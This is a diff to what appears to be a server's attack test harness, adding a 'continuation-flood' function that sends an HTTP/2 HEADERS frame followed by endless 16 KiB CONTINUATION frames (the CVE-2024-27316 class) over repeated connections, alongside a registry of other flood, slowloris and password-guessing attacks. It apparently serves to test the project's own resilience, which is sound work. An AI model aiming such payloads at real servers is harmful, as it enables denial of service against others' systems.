@@ -39,6 +39,7 @@ from app.api.grpc.proto.controller_grpc import ControllerServiceStub
 from app.segmentstore.wire import commands as wc
 from app.segmentstore.wire.codec import encode
 from tests.support.h2_frames import (
+    CONTINUATION,
     ENHANCE_YOUR_CALM,
     GOAWAY,
     HEADERS,
@@ -63,6 +64,8 @@ RAPID_RESET_STREAMS = 50_000
 CONTROL_FRAMES = 200_000
 SEND_BYTES = 256 * 1024
 BATCH_STREAMS = 500
+# What h2 alone would buffer per connection (its CONTINUATION backlog of 64 frames, less one).
+CONTINUATION_FRAMES = 63
 
 
 @dataclass
@@ -136,6 +139,18 @@ async def ping_flood(port: int, scale: float, ready: Callable[[], None], stop: a
 
 async def settings_flood(port: int, scale: float, ready: Callable[[], None], stop: asyncio.Event) -> Outcome:
     payload = frame(SETTINGS, 0, 0) * CONTROL_FRAMES
+    return await _in_thread(lambda halt: _h2_attack(port, payload, halt), ready, stop)
+
+
+async def continuation_flood(
+    port: int, scale: float, ready: Callable[[], None], stop: asyncio.Event
+) -> Outcome:
+    """HEADERS without END_HEADERS, then CONTINUATION frames of 16 KiB that never end the block
+    (CVE-2024-27316 class), on new connection after new connection."""
+    encoder = Encoder()
+    block = encoder.encode([(":method", "POST"), (":scheme", "http"), (":path", H2_PATH)])
+    endless = frame(CONTINUATION, 0, 1, b"\x00" * 16_384) * CONTINUATION_FRAMES
+    payload = frame(HEADERS, 0, 1, block) + endless
     return await _in_thread(lambda halt: _h2_attack(port, payload, halt), ready, stop)
 
 
@@ -441,6 +456,7 @@ ATTACKS: dict[str, Attack] = {
     "slowloris": slowloris,
     "password-guessing": password_guessing,
     "zero-window": zero_window,
+    "continuation-flood": continuation_flood,
 }
 
 
